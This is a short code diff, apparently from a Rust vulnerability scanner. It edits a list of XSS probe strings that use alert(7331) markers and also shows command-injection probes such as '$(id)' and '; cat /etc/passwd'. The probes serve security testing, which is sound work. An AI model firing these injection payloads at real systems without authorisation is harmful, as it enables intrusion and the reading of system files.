@@ -77,7 +77,7 @@ impl Family {
                 "<script>alert(7331)</script>",
                 "\"><img src=x onerror=alert(7331)>",
                 "'><svg/onload=alert(7331)>",
-                "javascript:alert(7331)",
+                "<a href=\"javascript:alert(7331)\">x</a>",
                 "<iframe srcdoc=\"<script>alert(7331)</script>\">",
             ],
             Family::Cmd => &[";id", "|id", "$(id)", "`id`", "&& id", "; cat /etc/passwd"],
